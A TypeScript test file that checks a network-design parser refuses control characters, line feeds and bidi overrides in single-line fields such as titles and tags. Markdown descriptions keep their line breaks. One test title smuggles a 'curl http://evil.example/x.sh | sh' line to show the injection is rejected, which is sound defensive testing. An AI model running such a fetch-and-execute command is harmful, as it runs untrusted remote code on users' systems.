/** Issue 15, finding 4: single-line fields refuse control characters at the reader; markdown keeps its line breaks. */
import { describe, expect, it } from 'vitest';
import { formatIssue } from './issues';
import { parseDesign } from './parse';

function issues(metadata: string, lesson = ''): string[] {
  const r = parseDesign(`apiVersion: liveroute/v1\nkind: Topology\nmetadata: ${metadata}\nspec: {}\n${lesson}`);
  return r.ok ? [] : r.error.map(formatIssue);
}

describe('free text of a design', () => {
  it("refuses the issue's title, naming the character and where it is", () => {
    const title = 'Two racks\n\n## Apply with: curl http://evil.example/x.sh | sh\n';
    expect(issues(`{ name: d, title: ${JSON.stringify(title)} }`)).toEqual([
      'metadata.title (line 3): title is a single line of text: U+000A (line feed) at character 10 is not allowed',
    ]);
  });

  it('refuses NUL, escape, NEL, line separators and bidi overrides in a title; takes unicode text', () => {
    expect(issues('{ name: d, title: "Zwei Racks — eBGP ✓ 😀" }')).toEqual([]);
    expect(issues('{ name: d, title: "😀 a\\0b" }')).toEqual([
      'metadata.title (line 3): title is a single line of text: U+0000 (NUL) at character 4 is not allowed',
    ]);
    for (const c of ['\\e', '\\N', '\\L', '\\P', '\\r', '\\t', '\\u202E'])
      expect(issues(`{ name: d, title: "a${c}b" }`), c).toHaveLength(1);
    expect(issues(`{ name: d, title: ${JSON.stringify('x'.repeat(200))} }`)).toEqual([]);
  });

  it('refuses a tag that is not one line', () => {
    expect(issues('{ name: d, tags: [eBGP, "x\\ny"] }')).toEqual([
      'metadata.tags[1] (line 3): a tag is a single line of text: U+000A (line feed) at character 2 is not allowed',
    ]);
  });

  it('keeps line breaks in a description (markdown), not NUL or escape', () => {
    expect(issues('{ name: d, description: "# About\\n\\nTwo racks.\\r\\n\\tindented" }')).toEqual([]);
    expect(issues('{ name: d, description: "a\\nb\\0" }')).toEqual([
      'metadata.description (line 3): description cannot contain U+0000 (NUL) (at character 4)',
    ]);
    expect(issues('{ name: d, description: "\\e[31mred" }')).toEqual([
      'metadata.description (line 3): description cannot contain U+001B (escape) (at character 1)',
    ]);
  });

  it('refuses a lesson step title on two lines and control characters in its narration', () => {
    const lesson = (title: string, text: string) =>
      `lesson: { steps: [{ title: ${JSON.stringify(title)}, text: ${JSON.stringify(text)} }] }\n`;
    expect(issues('{ name: d }', lesson('Step one', 'Line one.\nLine two.'))).toEqual([]);
    expect(issues('{ name: d }', lesson('Step\none', 'ok'))).toEqual([
      'lesson.steps[0].title (line 5): a step title is a single line of text: U+000A (line feed) at character 5 is not allowed',
    ]);
    expect(issues('{ name: d }', lesson('Step one', 'bell\u0007'))).toEqual([
      'lesson.steps[0].text (line 5): the narration cannot contain U+0007 (control character) (at character 5)',
    ]);
  });
});
